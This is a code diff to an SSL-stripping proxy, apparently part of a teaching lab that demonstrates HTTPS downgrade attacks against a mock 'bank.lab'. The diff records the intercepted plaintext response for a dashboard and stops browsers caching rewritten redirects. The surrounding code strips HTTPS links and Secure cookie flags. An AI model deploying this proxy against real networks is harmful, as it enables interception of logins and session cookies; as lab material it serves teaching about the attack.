@@ -4,6 +4,7 @@ import { connect as netConnect, createServer, type AddressInfo, type Server, typ
 import { closeServer, listen } from '../genuine/genuine-server.js'
 import { newConnectionRecord, type ConnectionRecord } from '../proxy/connection-record.js'
 import { HttpSniffer } from '../proxy/http-sniffer.js'
+import { answerOldestFlow } from '../proxy/response-recorder.js'
 import { HOP_BY_HOP, stripHttpsLinks, stripSecureFlag, UPGRADE_HEADERS } from './strip-rewrites.js'
 import { waitUntil } from '../util/wait-until.js'
 
@@ -75,6 +76,8 @@ export async function startSslstripProxy(params: StartSslstripProxyParams): Prom
     headers.connection = 'close'
     const upstream = await fetchUpstream(isSecure, { path, method: request.method ?? 'GET', headers, body })
     if (record !== undefined) {
+      // What the attacker read from the bank, before rewriting it: the flow's response (the dashboard's proxy view).
+      answerOldestFlow(record.plaintext, { status: upstream.status, reason: upstream.reason, rawHeaders: upstream.rawHeaders, body: upstream.body })
       record.upstream = { version: isSecure ? 'TLS (attacker → bank)' : 'plain HTTP', cipher: null, error: null }
       record.outcome = 'relayed'
       record.bytes.fromUpstream += upstream.body.length
@@ -87,6 +90,10 @@ export async function startSslstripProxy(params: StartSslstripProxyParams): Prom
         const rewritten = stripHttpsLinks(value)
         rewritten.stripped.forEach((url) => stripped.add(url))
         response.setHeader(name, rewritten.text)
+        // The bank's 301 http://bank.lab/ → https://bank.lab/ becomes a redirect to itself: a browser caches a 301
+        // (RFC 9111 §4.2.2, heuristically fresh) and would loop on it from its cache; the next request is the one
+        // the attacker answers over TLS itself, so the rewritten redirect must not be stored.
+        if (rewritten.stripped.length > 0) response.setHeader('cache-control', 'no-store')
       } else if (isAttacking && name === 'set-cookie' && Array.isArray(value)) {
         response.setHeader(name, value.map(stripSecureFlag))
       } else response.setHeader(name, value)
@@ -106,10 +113,13 @@ export async function startSslstripProxy(params: StartSslstripProxyParams): Prom
   function fetchUpstream(
     isSecure: boolean,
     outgoing: { path: string; method: string; headers: OutgoingHttpHeaders; body: Buffer },
-  ): Promise<{ status: number; headers: IncomingMessage['headers']; body: Buffer }> {
+  ): Promise<{ status: number; reason: string; headers: IncomingMessage['headers']; rawHeaders: string[]; body: Buffer }> {
     return new Promise((resolve, reject) => {
       const onResponse = (upstream: IncomingMessage): void => {
-        void readBounded(upstream).then((body) => resolve({ status: upstream.statusCode ?? 502, headers: upstream.headers, body }), reject)
+        void readBounded(upstream).then(
+          (body) => resolve({ status: upstream.statusCode ?? 502, reason: upstream.statusMessage ?? '', headers: upstream.headers, rawHeaders: upstream.rawHeaders, body }),
+          reject,
+        )
       }
       const common = { path: outgoing.path, method: outgoing.method, headers: outgoing.headers, timeout: 5_000 }
       const upstreamRequest = isSecure
